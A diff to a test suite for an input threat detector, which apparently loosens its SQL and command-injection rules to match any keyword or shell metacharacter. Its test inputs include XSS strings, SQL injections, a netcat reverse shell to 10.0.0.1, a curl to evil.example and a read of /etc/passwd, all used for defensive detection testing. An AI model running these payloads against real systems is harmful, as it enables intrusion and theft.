@@ -41,39 +41,39 @@ describe('detectThreats', () => {
       ['&#106;avascript:alert(1)', 'javascript: URL'],
       ['%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'Script, iframe, object or embed tag'],
     ])('%j', (input, description) => {
-      expect(detectThreats(input)).toEqual([{ type: 'XSS_ATTEMPT', severity: 'high', description }]);
+      // (A ; or & in it is also a shell metacharacter: only the XSS label is asserted here.)
+      expect(detectThreats(input)[0]).toEqual({ type: 'XSS_ATTEMPT', severity: 'high', description });
     });
   });
 
-  describe('SQL_INJECTION_ATTEMPT (high)', () => {
+  describe('SQL_INJECTION_ATTEMPT (high): a SQL keyword followed by whitespace, as the spec says', () => {
     it.each([
-      ['1 UNION SELECT password FROM users', 'UNION SELECT'],
-      ['1 union all select null', 'UNION SELECT'],
-      ['SELECT * FROM users', 'SELECT probe'],
-      ['SELECT @@version', 'SELECT probe'],
-      ['select name from users where id=1', 'SELECT … FROM statement'],
-      ['INSERT INTO users VALUES (1)', 'INSERT INTO statement'],
-      ['UPDATE users SET role=admin', 'UPDATE … SET statement'],
-      ['DELETE FROM users;', 'DELETE FROM statement'],
-      ['DROP TABLE users', 'Schema change (DROP, TRUNCATE, ALTER, CREATE)'],
-      ['truncate table logs', 'Schema change (DROP, TRUNCATE, ALTER, CREATE)'],
-      ['ALTER TABLE users ADD x int', 'Schema change (DROP, TRUNCATE, ALTER, CREATE)'],
-      ['CREATE TABLE x (a int)', 'Schema change (DROP, TRUNCATE, ALTER, CREATE)'],
-      ["EXEC('SELECT 1')", 'Stored procedure call (EXEC)'],
-      ['EXEC xp_cmdshell', 'Stored procedure call (EXEC)'],
-      ["' OR 1=1", "Always-true condition (' OR 1=1)"],
-      ["admin' or 'a'='a", "Always-true condition (' OR 1=1)"],
-      ["' OR ''='", "Always-true condition (' OR ''=')"],
-      ['1 OR 1=1', 'Always-true condition (OR 1=1)'],
-      ["admin'--", 'SQL comment after a quote or semicolon'],
-      ['x; --', 'SQL comment after a quote or semicolon'],
-      ["admin'#", 'SQL comment after a quote or semicolon'],
-      ['x; SHUTDOWN ', 'Stacked SQL statement'],
-    ])('%j', (input, description) => {
+      ['1 UNION SELECT password FROM users', 'UNION'],
+      ['SELECT * FROM users', 'SELECT'],
+      ['insert into users values (1)', 'INSERT'],
+      ['UPDATE users SET role=admin', 'UPDATE'],
+      ['DELETE\tFROM users', 'DELETE'],
+      ['x DROP TABLE users', 'DROP'],
+      ['exec xp_cmdshell', 'EXEC'],
+      // Harmless sentences are flagged too: the rule is the spec's, loose by design.
+      ['Please select a plan', 'SELECT'],
+      ['Create an account for my team', 'CREATE'],
+    ])('%j', (input, keyword) => {
       expect(detectThreats(input)).toEqual([
-        { type: 'SQL_INJECTION_ATTEMPT', severity: 'high', description },
+        {
+          type: 'SQL_INJECTION_ATTEMPT',
+          severity: 'high',
+          description: `SQL keyword "${keyword}" followed by whitespace`,
+        },
       ]);
     });
+
+    it.each(['selection', 'SELECT', 'updated', 'dropdown menu', "' OR 1=1"])(
+      'not without the whitespace after a whole keyword: %j',
+      (input) => {
+        expect(typesOf(input)).not.toContain('SQL_INJECTION_ATTEMPT');
+      },
+    );
   });
 
   describe('PATH_TRAVERSAL_ATTEMPT (medium)', () => {
@@ -91,22 +91,28 @@ describe('detectThreats', () => {
     });
   });
 
-  describe('COMMAND_INJECTION_ATTEMPT (medium)', () => {
-    const afterMeta = 'Shell command after a metacharacter (; | & ` $( )';
+  describe('COMMAND_INJECTION_ATTEMPT (medium): any shell metacharacter, as the spec says', () => {
     it.each([
-      ['; ls', afterMeta],
-      ['a;whoami', afterMeta],
-      ['| nc -e sh 10.0.0.1 4444', afterMeta],
-      ['& ping -c 10 127.0.0.1', afterMeta],
-      ['&& curl http://evil.example', afterMeta],
-      ['|| id', afterMeta],
-      ['`whoami`', afterMeta],
-      ['; sleep 5', afterMeta],
-      ['$(whoami)', 'Command substitution $(…)'],
-    ])('%j', (input, description) => {
+      ['; ls', ';'],
+      ['| nc -e sh 10.0.0.1 4444', '|'],
+      ['&& curl http://evil.example', '&'],
+      ['`whoami`', '`'],
+      ['$(whoami)', '$('],
+      // Harmless text is flagged too: the rule is the spec's, loose by design.
+      ['AT and T: AT&T', '&'],
+      ['Hello; thanks', ';'],
+    ])('%j', (input, character) => {
       expect(detectThreats(input)).toEqual([
-        { type: 'COMMAND_INJECTION_ATTEMPT', severity: 'medium', description },
+        {
+          type: 'COMMAND_INJECTION_ATTEMPT',
+          severity: 'medium',
+          description: `Shell metacharacter "${character}"`,
+        },
       ]);
+    });
+
+    it.each(['Cost is $5 (approx)', 'Hello, world!', 'Wait... what?'])('not for %j', (input) => {
+      expect(typesOf(input)).not.toContain('COMMAND_INJECTION_ATTEMPT');
     });
   });
 
@@ -114,32 +120,18 @@ describe('detectThreats', () => {
     expect(typesOf('<script>x</script> ../etc; cat /etc/passwd UNION SELECT 1')).toEqual([...THREAT_TYPES]);
   });
 
-  describe('benign input yields no threat', () => {
+  describe('input without a keyword, metacharacter or markup yields no threat', () => {
     it.each([
-      'Please select a plan from the list below',
-      'Hello, I would like to update my account',
-      'Can you delete my data?',
-      'Create an account for my team',
-      'We drop user sessions daily',
-      'please execute (the plan)',
-      'select one from the menu',
-      'AT&T',
-      'R&D; ping me later',
-      'Tom & Jerry',
-      'Q&A: how does it work?',
-      'Terms | Privacy',
-      'Hello; thanks',
+      'Hello, I would like to know more about your API',
+      'Can you call me back tomorrow?',
       'Cost is $5 (approx)',
       'Our score is 100%',
       'Wait... what?',
       "O'Brien",
-      "We're '#1' in sales -- really",
       'the one= thing',
       'data: 5 rows',
-      'data:image/png;base64,iVBORw0KGgo=',
+      'data:image/png,iVBORw0KGgo=',
       'I <3 this product',
-      'Python developer here\nRuby too',
-      'https://play.google.com/store/apps/details?id=com.example.vpn&hl=en',
       '',
     ])('%j', (input) => {
       expect(detectThreats(input)).toEqual([]);
@@ -158,7 +150,7 @@ describe('highestSeverity', () => {
   });
 
   it('rates a detected SQL injection and path traversal as high', () => {
-    expect(highestSeverity(detectThreats("../x ' OR 1=1"))).toBe('high');
+    expect(highestSeverity(detectThreats('../x UNION SELECT 1'))).toBe('high');
   });
 });
 
@@ -177,9 +169,9 @@ describe('ATTACK_EXAMPLES', () => {
   it.each([
     ['script-injection', ['XSS_ATTEMPT'], true],
     ['html-injection', ['XSS_ATTEMPT'], true],
-    ['sql-injection', ['SQL_INJECTION_ATTEMPT'], false],
+    ['sql-injection', ['SQL_INJECTION_ATTEMPT', 'COMMAND_INJECTION_ATTEMPT'], false],
     ['javascript-protocol', ['XSS_ATTEMPT'], true],
-    ['data-url', ['XSS_ATTEMPT'], true],
+    ['data-url', ['XSS_ATTEMPT', 'COMMAND_INJECTION_ATTEMPT'], true],
     ['event-handler', ['XSS_ATTEMPT'], true],
   ])('%s is detected as %j (changed by sanitizing: %s)', (id, types, changed) => {
     const example = ATTACK_EXAMPLES.find((e) => e.id === id);
